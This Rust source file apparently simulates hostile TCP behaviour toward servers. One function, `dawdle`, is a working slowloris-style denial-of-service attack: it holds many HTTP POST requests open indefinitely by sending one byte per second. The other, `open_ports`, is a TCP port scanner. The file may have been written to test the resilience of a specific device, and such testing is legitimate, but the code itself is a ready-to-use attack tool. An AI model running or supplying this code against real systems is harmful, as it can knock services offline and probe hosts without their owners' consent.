//! What a stranger does to servers over TCP that is no flood: requests that never end, and looking for open doors.

use std::io::{Read as _, Write as _};
use std::net::{IpAddr, SocketAddr, TcpStream};
use std::time::Duration;

const CONNECT: Duration = Duration::from_millis(300);
/// Between two octets of a request, short enough that no patience with silence ends it.
const OCTET_EVERY: Duration = Duration::from_secs(1);

/// Begins so many requests at each address, and goes on with each an octet at a time until it is ended.
pub fn dawdle(addresses: &[SocketAddr], connections: usize) {
    let begin = |address: &SocketAddr| {
        let mut stream = TcpStream::connect_timeout(address, CONNECT).ok()?;
        stream
            .write_all(b"POST /number HTTP/1.1\r\nHost: wifi\r\nContent-Length: 100000\r\nX-Slow: ")
            .ok()?;
        Some(stream)
    };
    let mut open: Vec<(SocketAddr, Option<TcpStream>)> = Vec::new();
    for address in addresses {
        open.extend((0..connections).map(|_| (*address, begin(address))));
    }
    loop {
        for (address, stream) in &mut open {
            let goes_on = stream.as_mut().is_some_and(|stream| stream.write_all(b"a").is_ok());
            if !goes_on {
                *stream = begin(address);
            }
        }
        std::thread::sleep(OCTET_EVERY);
    }
}

/// TCP ports up to the last that let a connection come to be, and keep it for a moment.
#[must_use]
pub fn open_ports(address: IpAddr, last: u16) -> Vec<u16> {
    let is_open = |port: &u16| {
        let Ok(mut stream) = TcpStream::connect_timeout(&SocketAddr::new(address, *port), CONNECT) else {
            return false;
        };
        let silence = stream.set_read_timeout(Some(Duration::from_millis(20)));
        let reset = |error: std::io::Error| error.kind() == std::io::ErrorKind::ConnectionReset;
        silence.is_ok() && !stream.read(&mut [0]).is_err_and(reset)
    };
    (1..=last).filter(is_open).collect()
}
